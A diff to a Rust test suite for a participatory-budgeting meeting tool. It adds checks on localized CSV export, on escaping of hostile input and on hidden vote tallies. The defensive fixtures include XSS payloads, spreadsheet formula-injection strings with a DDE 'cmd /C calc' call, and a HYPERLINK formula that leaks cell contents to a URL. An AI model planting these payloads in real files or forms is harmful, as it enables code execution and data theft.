@@ -15,6 +15,8 @@ use calamine::{Data, Reader, Xlsx};
 use serde_json::{json, Value};
 use std::path::{Path, PathBuf};
 use std::process::Command;
+use std::time::Duration;
+use yuanzhuo_protocol::{PaperStatus, Phase};
 use yuanzhuo_tests::http::get;
 use yuanzhuo_tests::*;
 
@@ -283,7 +285,8 @@ async fn after_the_vote_the_office_gets_its_workbook_the_board_its_notice_and_pr
     assert!(value("资助规则").starts_with("greedy_skip"));
 
     // ---- the CSV keeps its columns and adds where the votes came from
-    let csv = hub_cmd(&["export", "--data", data.to_str().unwrap(), "--format", "csv"]).unwrap();
+    let csv = hub_cmd(&["export", "--data", data.to_str().unwrap(), "--format", "csv", "--lang", "en"]).unwrap();
+    let csv = csv.strip_prefix('\u{feff}').expect("UTF-8 with a byte order mark");
     let mut lines = csv.lines();
     assert_eq!(
         lines.next().unwrap(),
@@ -292,6 +295,16 @@ async fn after_the_vote_the_office_gets_its_workbook_the_board_its_notice_and_pr
     let p01_csv = lines.clone().find(|l| l.contains(",P01,")).unwrap();
     assert!(p01_csv.ends_with(",true,4,1,0,,greedy"), "{p01_csv}");
     assert!(lines.clone().find(|l| l.contains(",P03,")).unwrap().ends_with(",2,"), "P03 excluded under rule 2");
+    // In Chinese by default, the same cells in people's words.
+    let zh = hub_cmd(&["export", "--data", data.to_str().unwrap(), "--format", "csv"]).unwrap();
+    let mut zh_lines = zh.strip_prefix('\u{feff}').expect("a byte order mark").lines();
+    assert_eq!(
+        zh_lines.next().unwrap(),
+        "名次,位次,编号,项目,地点,得票,造价,是否资助,累计造价,未资助原因,是否最终结果,手机票,纸质票,贴纸票,排除规则,资助方式"
+    );
+    let p01_zh = zh_lines.clone().find(|l| l.contains(",P01,")).unwrap();
+    assert!(p01_zh.ends_with(",是,4,1,0,,按排名"), "{p01_zh}");
+    assert!(zh_lines.clone().find(|l| l.contains(",P03,")).unwrap().contains(",顾问判定排除,是,"));
 
     // ---- the notice: public now, with the head and the budget line
     let notice = String::from_utf8(export_bytes(&data, "notice", dir.path())).unwrap();
@@ -500,4 +513,370 @@ async fn sticker_votes_are_described_not_invented_as_ballots() {
     let rows: Vec<Vec<String>> = s.rows().skip(2).map(|r| r.iter().map(text).collect()).collect();
     assert_eq!(rows.len(), 2, "{rows:?}");
     assert!(rows.iter().any(|r| r[1] == "P08" && r[3] == "9"), "{rows:?}");
+}
+
+// ---------------------------------------------------------------- hostile text
+
+/// What someone hostile might type into a meeting file, a proposal list or an
+/// adviser's note: markup that runs script when opened, and spreadsheet
+/// formulas.
+const H_SCRIPT: &str = "<script>window.__pwned=1</script>";
+const H_IMG: &str = "\"><img src=x onerror=\"window.__pwned=1\">";
+const H_LINK: &str = "=HYPERLINK(\"http://127.0.0.1:9/leak?\"&A1,\"点我\")";
+const H_CMD: &str = "+cmd|' /C calc'!A0";
+const H_SUM: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
+const H_MINUS: &str = "-2+3+cmd|' /C calc'!A0";
+
+fn toml_str(s: &str) -> String {
+    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
+}
+
+fn csv_field(s: &str) -> String {
+    format!("\"{}\"", s.replace('"', "\"\""))
+}
+
+/// A meeting whose every free text is hostile; returns the data folder and
+/// the token sheet.
+fn hostile_meeting(dir: &Path, rules: &str) -> (PathBuf, Value) {
+    let proposals = [
+        ("P01", H_LINK, H_SCRIPT, H_CMD, H_IMG, 10_000),
+        ("P02", H_CMD, H_IMG, H_SUM, H_SCRIPT, 20_000),
+        ("P03", H_SUM, H_LINK, H_SCRIPT, H_CMD, 15_000),
+        ("P04", H_SCRIPT, H_SUM, H_IMG, H_LINK, 12_000),
+        ("P05", H_IMG, H_MINUS, H_LINK, H_SUM, 30_000),
+        ("P06", H_MINUS, H_CMD, H_MINUS, H_MINUS, 8_000),
+    ];
+    let mut csv = String::from("id,title,description,location,category,proposer,cost\n");
+    for (id, title, location, category, proposer, cost) in proposals {
+        csv.push_str(&format!(
+            "{id},{},{},{},{},{},{cost}\n",
+            csv_field(title),
+            csv_field(&format!("{title} {H_SCRIPT}")),
+            csv_field(location),
+            csv_field(category),
+            csv_field(proposer),
+        ));
+    }
+    std::fs::write(dir.join("hostile.csv"), csv).unwrap();
+    let file = dir.join("hostile.toml");
+    std::fs::write(
+        &file,
+        format!(
+            "[meeting]\nname = {}\nvenue = {}\ndate = {}\nproposals = \"hostile.csv\"\n\n[rules]\ntable_names = [{}, {}, {}]\n\
+             picks_per_table = 1\nmax_choices = 3\n{rules}\n\n[rules.budget]\namount = 40000\ncurrency = {}\n",
+            toml_str(&format!("幸福里{H_SCRIPT}")),
+            toml_str(H_IMG),
+            toml_str(H_LINK),
+            toml_str(H_SCRIPT),
+            toml_str(H_IMG),
+            toml_str(H_LINK),
+            toml_str("<img src=x onerror=window.__pwned=1>元"),
+        ),
+    )
+    .unwrap();
+    let data = dir.join("hostile-data");
+    let text = hub_cmd(&[
+        "tokens",
+        "--data",
+        data.to_str().unwrap(),
+        "--meeting",
+        file.to_str().unwrap(),
+        "--format",
+        "json",
+        "--voters",
+        "6",
+    ])
+    .unwrap();
+    (data, serde_json::from_str(&text).unwrap())
+}
+
+/// No markup from the meeting's text in a document: no element that could
+/// run anything, the hostile text shown as text, and the document's own
+/// policy in front.
+fn assert_inert(what: &str, html: &str) {
+    for bad in ["<script", "<img", "<iframe", "<svg", "<a ", "javascript:"] {
+        assert!(!html.to_ascii_lowercase().contains(bad), "{what} holds {bad}");
+    }
+    assert!(html.contains("&lt;script&gt;window.__pwned=1&lt;/script&gt;"), "{what}: the hostile text, as text");
+    let head = &html[..html.find("<style>").expect("a style sheet")];
+    assert!(
+        head.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'sha256-"),
+        "{what}: its own policy before anything else: {head}"
+    );
+}
+
+/// Every cell of a CSV as a spreadsheet reads it: none may start like a formula.
+fn assert_no_formula_cells(what: &str, text: &str) -> Vec<Vec<String>> {
+    let body = text.strip_prefix('\u{feff}').expect("UTF-8 with a byte order mark");
+    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(body.as_bytes());
+    let rows: Vec<Vec<String>> = r.records().map(|rec| rec.unwrap().iter().map(str::to_string).collect()).collect();
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']),
+                "{what}: a cell a spreadsheet would evaluate: {cell:?}"
+            );
+        }
+    }
+    rows
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_text_in_every_field_stays_text_in_the_notice_the_letters_the_csv_and_the_workbook() {
+    let dir = tempfile::tempdir().unwrap();
+    let (data, sheet) = hostile_meeting(dir.path(), "");
+    let hub = Hub::start(&data, &[]).unwrap();
+    let secret = token(&sheet, &["organiser"]);
+    let mut org = Client::connect(&hub.url(), &secret).await.unwrap();
+    ack(&mut org, cmd::open()).await;
+    let mut adviser = Client::connect(&hub.url(), &token(&sheet, &["adviser_all"])).await.unwrap();
+    ack(
+        &mut adviser,
+        json!({"kind": "annotate", "proposal": "P02", "feasibility": "excluded", "exclusion_rule": 2,
+               "reason": H_SCRIPT, "remark": format!("{H_IMG} {H_LINK}"), "cost_estimate": 21000}),
+    )
+    .await;
+    ack(
+        &mut adviser,
+        json!({"kind": "annotate", "proposal": "P01", "feasibility": "doubtful", "reason": H_SUM, "remark": H_CMD}),
+    )
+    .await;
+    for p in ["discussion", "picks", "pitches", "voting"] {
+        ack(&mut org, cmd::advance(p)).await;
+    }
+    let choices: [&[&str]; 6] =
+        [&["P01", "P02"], &["P01", "P03"], &["P05", "P01"], &["P04"], &["P03", "P05"], &["P02", "P06"]];
+    for (t, c) in voter_tokens(&sheet).iter().zip(choices) {
+        let mut v = Client::connect(&hub.url(), t).await.unwrap();
+        ack(&mut v, cmd::ballot(c)).await;
+        v.close().await;
+    }
+    ack(&mut org, cmd::advance("counted")).await;
+
+    // The notice and the letters: escaped, with a policy of their own.
+    let notice = String::from_utf8(export_bytes(&data, "notice", dir.path())).unwrap();
+    assert_inert("the notice", &notice);
+    assert!(notice.contains("&lt;img src=x onerror=window.__pwned=1&gt;元"), "the currency, as text");
+    assert_eq!(get(hub.port, "/notice", &[]).await.unwrap().text(), notice, "/notice is the same document");
+    let letters = String::from_utf8(export_bytes(&data, "letters", dir.path())).unwrap();
+    assert_inert("the letters", &letters);
+    assert!(letters.contains("<section class=\"letter\" data-proposal=\"P02\""), "the excluded proposal's letter");
+    for text in [H_IMG, H_LINK, H_CMD] {
+        let escaped = text.replace('&', "&amp;").replace('"', "&quot;").replace('\'', "&#39;").replace('<', "&lt;");
+        let escaped = escaped.replace('>', "&gt;");
+        assert!(letters.contains(&escaped), "the letters quote {text} as text");
+    }
+    assert!(letters.contains("&lt;img src=x onerror=window.__pwned=1&gt;元"), "the currency, as text");
+    let auth = format!("Bearer {secret}");
+    let printed = get(hub.port, "/api/admin/letters.html", &[("Authorization", &auth)]).await.unwrap();
+    assert_eq!(printed.text(), letters, "the console prints the same letters");
+
+    // The CSV, in both languages: no cell a spreadsheet would evaluate, the
+    // text kept after the quote that says "text".
+    for lang in ["zh", "en"] {
+        let text = hub_cmd(&["export", "--data", data.to_str().unwrap(), "--format", "csv", "--lang", lang]).unwrap();
+        let rows = assert_no_formula_cells(&format!("CSV ({lang})"), &text);
+        let titles: Vec<&str> = rows[1..].iter().map(|r| r[3].as_str()).collect();
+        for t in [H_LINK, H_CMD, H_SUM, H_MINUS] {
+            assert!(titles.contains(&format!("'{t}").as_str()), "{lang}: {t} neutralised in {titles:?}");
+        }
+        assert!(titles.contains(&H_SCRIPT) && titles.contains(&H_IMG), "harmless text is kept as it is");
+        assert!(rows[1..].iter().any(|r| r[4] == format!("'{H_CMD}")), "locations too");
+    }
+    let served = get(hub.port, "/api/admin/export.csv", &[("Authorization", &auth)]).await.unwrap();
+    assert_no_formula_cells("the console's CSV", &served.text());
+
+    // The workbook: every hostile text a string cell, no formula anywhere.
+    let bytes = export_bytes(&data, "xlsx", dir.path());
+    let mut book = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
+    let mut strings = vec![];
+    for name in book.sheet_names() {
+        let formulas = book.worksheet_formula(&name).unwrap();
+        let found: Vec<&String> = formulas.used_cells().map(|(_, _, f)| f).filter(|f| !f.is_empty()).collect();
+        assert!(found.is_empty(), "sheet {name} holds formulas: {found:?}");
+        let range = book.worksheet_range(&name).unwrap();
+        strings.extend(range.used_cells().filter_map(|(_, _, d)| match d {
+            Data::String(s) => Some(s.clone()),
+            _ => None,
+        }));
+    }
+    for t in [H_LINK, H_CMD, H_SUM, H_MINUS, H_SCRIPT] {
+        assert!(strings.iter().any(|s| s == t), "{t} is a string cell, as typed");
+    }
+    assert!(strings.iter().any(|s| s.contains(&format!("幸福里{H_SCRIPT}"))), "the meeting's name");
+}
+
+// ---------------------------------------------------------------- hidden tally
+
+/// Every per-proposal count or mark in a message from the hub, as "path:
+/// value" (empty when there is none). `own_desk`: a counter's own copies are
+/// theirs to see.
+fn counts_in(v: &Value, own_desk: Option<&str>, path: &str, out: &mut Vec<String>) {
+    match v {
+        Value::Object(m) => {
+            if let (Some(d), Some(c)) = (own_desk, m.get("counter").and_then(Value::as_str)) {
+                if d == c && m.contains_key("unit") {
+                    return;
+                }
+            }
+            for (k, x) in m {
+                let here = format!("{path}.{k}");
+                // Counts and marks are lists and maps; `"tally": "hidden_until_close"` is a rule.
+                let empty = match x {
+                    Value::Array(a) => a.is_empty(),
+                    Value::Object(o) => o.is_empty(),
+                    _ => true,
+                };
+                match k.as_str() {
+                    // A voter's own ballot is theirs.
+                    "my_ballot" => continue,
+                    "tally" | "results" | "marks" | "counts" | "choices" | "ranking" if !empty => {
+                        out.push(format!("{here}: {x}"))
+                    }
+                    _ => counts_in(x, own_desk, &here, out),
+                }
+            }
+        }
+        Value::Array(a) => {
+            for (i, x) in a.iter().enumerate() {
+                counts_in(x, own_desk, &format!("{path}[{i}]"), out);
+            }
+        }
+        _ => {}
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_hidden_tally_reaches_no_role_and_no_export_before_the_close() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules =
+        "[rules]\ntables = 6\nmax_choices = 3\ntally = \"hidden_until_close\"\n\n[rules.budget]\namount = 100000\n";
+    let (data, sheet) = meeting(dir.path(), "隐藏计票", rules, 6);
+    let hub = Hub::start(&data, &[]).unwrap();
+    let secret = token(&sheet, &["organiser"]);
+    let mut org = Client::connect(&hub.url(), &secret).await.unwrap();
+    ack(&mut org, cmd::open()).await;
+    for p in ["discussion", "picks", "pitches", "voting"] {
+        ack(&mut org, cmd::advance(p)).await;
+    }
+
+    // Every role connects before anything is counted, and listens.
+    let voters = voter_tokens(&sheet);
+    let roles: Vec<(String, String, Option<&str>)> = vec![
+        ("organiser".into(), secret.clone(), None),
+        ("chair".into(), token(&sheet, &["tables", "0", "chair"]), None),
+        ("recorder".into(), token(&sheet, &["tables", "1", "recorder"]), None),
+        ("adviser".into(), token(&sheet, &["tables", "2", "adviser"]), None),
+        ("adviser_all".into(), token(&sheet, &["adviser_all"]), None),
+        ("scrutineer".into(), token(&sheet, &["observers", "0"]), None),
+        ("counter 1".into(), token(&sheet, &["counters", "0"]), Some("1")),
+        ("counter 2".into(), token(&sheet, &["counters", "1"]), Some("2")),
+        ("counter 3".into(), token(&sheet, &["counters", "2"]), Some("3")),
+        ("projector".into(), token(&sheet, &["projector"]), None),
+        ("public".into(), "public".into(), None),
+        ("voter".into(), voters[5].clone(), None),
+    ];
+    let mut listeners = vec![];
+    for (name, t, desk) in &roles {
+        let c = Client::connect(&hub.url(), t).await.unwrap_or_else(|e| panic!("{name}: {e}"));
+        assert_eq!(c.snapshot().phase, Phase::Voting, "{name}");
+        listeners.push((name.clone(), c, *desk, vec![]));
+    }
+
+    // Phone ballots, a paper batch keyed twice (its marks), a sticker board read twice.
+    for (t, c) in voters.iter().take(4).zip([&["P07", "P08"][..], &["P07"], &["P08", "P09"], &["P07", "P09"]]) {
+        let mut v = Client::connect(&hub.url(), t).await.unwrap();
+        ack(&mut v, cmd::ballot(c)).await;
+        v.close().await;
+    }
+    let mut counters = vec![];
+    for n in 0..2 {
+        counters.push(Client::connect(&hub.url(), sheet["counters"][n]["token"].as_str().unwrap()).await.unwrap());
+    }
+    for c in &mut counters {
+        for (number, marks) in
+            [("301", vec!["P10", "P11"]), ("302", vec!["P10"]), ("303", vec!["P11", "P12", "P13", "P14"])]
+        {
+            ack(c, json!({"kind": "key_paper", "batch": 1, "number": number, "marks": marks})).await;
+        }
+        ack(c, json!({"kind": "finish_paper", "batch": 1})).await;
+        ack(c, json!({"kind": "key_board", "board": 1, "counts": {"P12": 9, "P13": 4}})).await;
+    }
+    let mut obs = Client::connect(&hub.url(), &token(&sheet, &["observers", "1"])).await.unwrap();
+    ack(&mut obs, json!({"kind": "declare_sheets", "batch": 1, "sheets": 3})).await;
+    // A last entry that every connection hears: then each has heard everything before it.
+    let last = ack(&mut org, json!({"kind": "start_timer", "label": "计票", "minutes": 5})).await;
+    let last_seq = last["seq"].as_u64().expect("the entry's seq");
+    for (name, c, desk, heard) in &mut listeners {
+        heard.push(c.welcome.clone());
+        while c.snapshot().seq < last_seq {
+            let m = c.recv(Duration::from_secs(15)).await.unwrap_or_else(|e| panic!("{name}: {e}"));
+            heard.push(m);
+        }
+        let mut found = vec![];
+        for m in heard.iter() {
+            counts_in(m, *desk, "", &mut found);
+        }
+        assert!(found.is_empty(), "{name} received per-proposal counts before the close: {found:#?}");
+    }
+    // …while a counter's own copy is whole (re-keying needs it).
+    let own = &listeners.iter().find(|l| l.0 == "counter 1").unwrap().1;
+    assert!(own.snapshot().paper_copies.iter().any(|c| c.ballots.iter().any(|b| b.marks == ["P10", "P11"])));
+    let scrutineer = &listeners.iter().find(|l| l.0 == "scrutineer").unwrap().1;
+    let desk = scrutineer.snapshot().paper.as_ref().expect("the scrutineer sees the desk");
+    assert!(desk.marks_hidden && desk.batches[0].status == PaperStatus::Agreed);
+    assert_eq!(desk.batches[0].ballots.iter().filter(|b| b.void.is_some()).count(), 1, "verdicts are shown");
+    assert_eq!(scrutineer.snapshot().paper_copies.len(), 4, "every copy's progress, without marks");
+
+    // Every export: the JSON without counts, the rest refused.
+    let x = export(&data).unwrap();
+    assert_eq!((x["tally_hidden"].as_bool(), x["tally"].is_null(), x["results"].is_null()), (Some(true), true, true));
+    assert_eq!(x["turnout"]["ballots"], 7, "the turnout is not hidden");
+    let mut found = vec![];
+    counts_in(&x, None, "export.json", &mut found);
+    assert!(found.is_empty(), "the JSON export shows counts: {found:#?}");
+    for format in ["csv", "log", "xlsx", "notice", "letters", "pabulib"] {
+        let out = dir.path().join(format!("refused.{format}"));
+        let r = Command::new(bin("hub"))
+            .args(["export", "--data", data.to_str().unwrap(), "--format", format, "--out", out.to_str().unwrap()])
+            .output()
+            .unwrap();
+        assert!(!r.status.success() && !out.exists(), "{format} is refused");
+        let why = String::from_utf8_lossy(&r.stderr);
+        assert!(why.contains("hidden_until_close") && why.contains("投票结束"), "{format}: {why}");
+    }
+    let auth = format!("Bearer {secret}");
+    let json = get(hub.port, "/api/admin/export.json", &[("Authorization", &auth)]).await.unwrap();
+    assert_eq!(json.json().unwrap(), x, "the console's JSON is the CLI's");
+    for path in ["export.csv", "export.xlsx", "export.pb", "notice.html", "letters.html"] {
+        let r = get(hub.port, &format!("/api/admin/{path}"), &[("Authorization", &auth)]).await.unwrap();
+        assert_eq!((r.status, r.json().unwrap()["code"].as_str()), (409, Some("tally_hidden")), "{path}");
+    }
+    assert_eq!(get(hub.port, "/notice", &[]).await.unwrap().status, 404);
+    let board = get(hub.port, "/api/board", &[]).await.unwrap().json().unwrap();
+    let mut found = vec![];
+    counts_in(&board, None, "board", &mut found);
+    assert!(found.is_empty(), "the public board shows counts: {found:#?}");
+
+    // The close reveals everything, to everyone who may see it.
+    ack(&mut org, cmd::advance("counted")).await;
+    for (name, c, _, _) in &mut listeners {
+        c.wait_until(Duration::from_secs(15), |s| s.phase == Phase::Counted && s.results.is_some())
+            .await
+            .unwrap_or_else(|e| panic!("{name}: {e}"));
+    }
+    let scrutineer = &mut listeners.iter_mut().find(|l| l.0 == "scrutineer").unwrap().1;
+    scrutineer
+        .wait_until(Duration::from_secs(15), |s| {
+            s.paper.as_ref().is_some_and(|p| !p.marks_hidden && p.boards[0].counts.get("P12") == Some(&9))
+                && s.paper_copies.iter().all(|c| c.ballots.iter().all(|b| !b.marks.is_empty()))
+        })
+        .await
+        .unwrap();
+    let x = export(&data).unwrap();
+    assert_eq!((x["tally_hidden"].as_bool(), x["tally"]["P07"].as_u64()), (Some(false), Some(3)));
+    assert_eq!((x["tally"]["P10"].as_u64(), x["tally"]["P12"].as_u64()), (Some(2), Some(9)), "paper and stickers");
+    for format in ["csv", "log", "xlsx", "notice", "letters"] {
+        export_bytes(&data, format, dir.path());
+    }
 }
